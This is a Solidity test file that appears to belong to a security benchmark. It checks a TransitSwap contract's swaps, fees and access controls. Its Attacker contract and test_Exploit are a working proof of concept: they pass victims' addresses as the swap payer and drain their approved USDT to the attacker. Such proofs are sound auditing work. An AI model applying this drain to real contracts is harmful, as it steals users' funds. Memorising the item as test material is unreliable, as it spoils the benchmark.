// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./TransitSwap.sol";

// assay-canary-9ed6f7bf-9454-4607-98a1-9f0e2099fdcd

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IERC20 {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Refuses to move.
contract Stuck is IERC20 {
    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

/// Trades one for one.
contract Pool is ITransitPool {
    function swap(address, address target, uint256 amount, address receiver) external returns (uint256) {
        Token(target).transfer(receiver, amount);
        return amount;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant FEES = address(0xFEE);

    Token internal usdt;
    Token internal busd;
    ClaimTokens internal claims;
    TransitSwap internal transit;
    Pool internal pool;
    Attacker internal thief;

    function setUp() public {
        usdt = new Token();
        busd = new Token();
        claims = new ClaimTokens();
        transit = new TransitSwap(claims, FEES);
        claims.setCaller(address(transit), true);
        pool = new Pool();
        transit.list(pool, true);
        transit.setFee(20, FEES);
        busd.mint(address(pool), 30_000_000e18);
        give(ANA, 15_000_000e18);
        give(BEN, 6_000_000e18);
        thief = new Attacker(transit, usdt, busd, pool);
    }

    function give(address who, uint256 amount) internal {
        usdt.mint(who, amount);
        vm.prank(who);
        usdt.approve(address(claims), type(uint256).max);
    }

    function description(address payer, uint256 amount) internal view returns (TransitSwap.SwapDescription memory) {
        return TransitSwap.SwapDescription(address(usdt), address(busd), payer, payer, amount, amount / 2, pool);
    }

    function test_Regular() public {
        vm.prank(ANA);
        require(transit.swap(description(ANA, 1_000e18)) == 998e18 && busd.balanceOf(ANA) == 998e18, "bought");
        require(usdt.balanceOf(FEES) == 2e18 && usdt.balanceOf(ANA) == 14_999_000e18, "fee");
        transit.setFee(0, BEN);
        vm.prank(BEN);
        require(transit.swap(description(BEN, 10e18)) == 10e18, "without a fee");
        transit.pause(true);
        transit.pause(false);
        transit.changeExecutor(ANA);
        require(transit.executor() == ANA && transit.feeCollector() == BEN, "executor");
        require(claims.isCaller(address(transit)), "caller");
    }

    function test_RefusesStrangers() public {
        bytes memory no = abi.encodeWithSelector(TransitSwap.Unauthorized.selector, ANA);
        vm.startPrank(ANA);
        vm.expectRevert(no);
        transit.list(pool, false);
        vm.expectRevert(no);
        transit.setFee(0, ANA);
        vm.expectRevert(no);
        transit.pause(true);
        vm.expectRevert(no);
        transit.changeExecutor(ANA);
        vm.expectRevert("caller only");
        claims.claimTokens(address(usdt), BEN, ANA, 1);
        vm.expectRevert("owner only");
        claims.setCaller(ANA, true);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(TransitSwap.FeeTooHigh.selector, 31));
        transit.setFee(31, FEES);
    }

    function test_RefusesSwaps() public {
        TransitSwap.SwapDescription memory desc = description(ANA, 1_000e18);
        vm.startPrank(ANA);
        desc.minReturn = 998e18 + 1;
        vm.expectRevert(abi.encodeWithSelector(TransitSwap.ReturnTooLow.selector, 998e18));
        transit.swap(desc);
        desc.minReturn = 0;
        desc.target = address(usdt);
        vm.expectRevert(abi.encodeWithSelector(TransitSwap.SameToken.selector, address(usdt)));
        transit.swap(desc);
        desc.target = address(busd);
        desc.pool = ITransitPool(ANA);
        vm.expectRevert(abi.encodeWithSelector(TransitSwap.PoolNotListed.selector, ANA));
        transit.swap(desc);
        vm.stopPrank();
        transit.pause(true);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(TransitSwap.Paused.selector));
        transit.swap(description(ANA, 1));
    }

    function test_RefusesClaims() public {
        address stuck = address(new Stuck());
        vm.prank(address(transit));
        vm.expectRevert("not transferred");
        claims.claimTokens(stuck, ANA, BEN, 1);
    }

    function exploit() public {
        thief.run(ANA);
        thief.run(BEN);
    }

    function test_Exploit() public {
        uint256 before = usersHold();
        exploit();
        require(usersHold() + 21_000_000e18 <= before, "nothing lost");
    }

    function usersHold() public view returns (uint256) {
        return usdt.balanceOf(ANA) + usdt.balanceOf(BEN) + busd.balanceOf(ANA) + busd.balanceOf(BEN);
    }

    function target() public view returns (address) {
        return address(transit);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Sells what others hold.
contract Attacker {
    TransitSwap internal transit;
    Token internal usdt;
    Token internal busd;
    Pool internal pool;

    constructor(TransitSwap transit_, Token usdt_, Token busd_, Pool pool_) {
        transit = transit_;
        usdt = usdt_;
        busd = busd_;
        pool = pool_;
    }

    function run(address payer) external {
        uint256 all = usdt.balanceOf(payer);
        transit.swap(TransitSwap.SwapDescription(address(usdt), address(busd), payer, address(this), all, 0, pool));
    }
}
